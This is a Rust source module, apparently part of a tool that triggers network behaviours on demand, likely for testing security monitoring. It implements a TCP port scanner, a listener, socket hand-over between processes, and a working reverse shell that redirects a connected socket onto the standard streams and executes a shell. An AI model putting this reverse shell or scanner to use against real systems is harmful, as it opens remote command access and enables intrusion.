//! Acts by sockets of TCP over IPv4. An ADDRESS is `10.0.0.1:80`.
//!
//! Steps: `scan ADDRESS COUNT` (connects once to that port and those behind it; prints how many are open),
//! `listen ADDRESS` (until the end).
//! Acts: `reverse-shell ADDRESS SHELL`, `hand-over HOW ADDRESS`.

use std::io::{Read, Write};
use std::net::{SocketAddrV4, TcpListener, TcpStream};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::net::UnixStream;

use libc::{sockaddr_in, socklen_t};

use crate::evade::{ended, passing};
use crate::{Words, launch, refused};

pub fn act(name: &[u8], words: &mut Words) -> bool {
    match name {
        b"reverse-shell" => reverse_shell(words),
        b"hand-over" => hand_over(words),
        _ => return false,
    }
    true
}

fn address(words: &mut Words) -> SocketAddrV4 {
    let word = words.c_string();
    let text = word.to_str().expect("UTF-8");
    text.parse().expect("an address")
}

/// As calls take it.
pub fn raw(address: SocketAddrV4) -> (sockaddr_in, socklen_t) {
    // SAFETY: all zeros are a value of it.
    let mut raw: sockaddr_in = unsafe { std::mem::zeroed() };
    raw.sin_family = libc::AF_INET as u16;
    raw.sin_port = address.port().to_be();
    raw.sin_addr.s_addr = u32::from_ne_bytes(address.ip().octets());
    (raw, size_of::<sockaddr_in>() as socklen_t)
}

pub fn tcp(flags: i32) -> OwnedFd {
    // SAFETY: numbers; the descriptor is ours.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | flags, 0);
        assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
        OwnedFd::from_raw_fd(fd)
    }
}

fn connect(socket: &OwnedFd, to: SocketAddrV4) -> bool {
    let (address, size) = raw(to);
    let at = (&raw const address).cast();
    // SAFETY: an address of that size.
    unsafe { libc::connect(socket.as_raw_fd(), at, size) == 0 }
}

pub fn scan(words: &mut Words) {
    let (first, count) = (address(words), words.number() as u16);
    let ports = first.port()..first.port() + count;
    let is_open = |port: &u16| {
        connect(
            &tcp(libc::SOCK_CLOEXEC),
            SocketAddrV4::new(*first.ip(), *port),
        )
    };
    println!("{}", ports.filter(is_open).count());
}

pub fn listen(words: &mut Words) {
    let listening = TcpListener::bind(address(words)).expect("listen");
    // Until the end of this process.
    std::mem::forget(listening);
}

/// A shell that hears who listens at ADDRESS, and answers there.
fn reverse_shell(words: &mut Words) {
    let (to, shell) = (address(words), words.c_string());
    let socket = tcp(libc::SOCK_CLOEXEC);
    if !connect(&socket, to) {
        refused();
    }
    for standard in 0..3 {
        // SAFETY: numbers.
        unsafe { libc::dup2(socket.as_raw_fd(), standard) };
    }
    launch::execve(&shell, std::slice::from_ref(&shell));
    refused()
}

/// `hand-over HOW ADDRESS`: a socket that this process made is used by another one, which has it by a
/// message. HOW: `connected` (it is by this one, and written to by the other), `fresh` (the other
/// connects it), `listening` (the other accepts from it what it connects itself). Prints the other's pid.
fn hand_over(words: &mut Words) {
    let (how, at) = (words.bytes(), address(words));
    let made = match &*how {
        b"listening" => TcpListener::bind(at).expect("listen").into(),
        _ => tcp(libc::SOCK_CLOEXEC),
    };
    if how == b"connected" && !connect(&made, at) {
        refused();
    }
    let (ours, theirs) = UnixStream::pair().expect("a pair of sockets");
    // SAFETY: no other thread runs in this program.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        drop((made, ours));
        use_it(&how, at, passing::receive(&theirs));
        // SAFETY: ends this process without running anything of its parent's.
        unsafe { libc::_exit(0) };
    }
    assert!(pid > 0, "fork: {}", std::io::Error::last_os_error());
    passing::send(&ours, made.as_raw_fd());
    // It is the other's alone.
    drop((made, theirs));
    assert_eq!(ended(pid), 0, "who was handed the socket");
    println!("{pid}");
}

fn use_it(how: &[u8], at: SocketAddrV4, socket: OwnedFd) {
    match how {
        b"connected" => {
            let mut stream = TcpStream::from(socket);
            stream.write_all(b"by another").expect("write");
            // Until the peer has heard all and goes.
            stream
                .shutdown(std::net::Shutdown::Write)
                .expect("shutdown");
            assert_eq!(stream.read(&mut [0]).expect("read"), 0);
        }
        b"fresh" => assert!(connect(&socket, at), "connect"),
        b"listening" => {
            let client = tcp(libc::SOCK_CLOEXEC);
            assert!(connect(&client, at), "connect");
            TcpListener::from(socket).accept().expect("accept");
        }
        other => panic!("no way {other:?}"),
    }
}
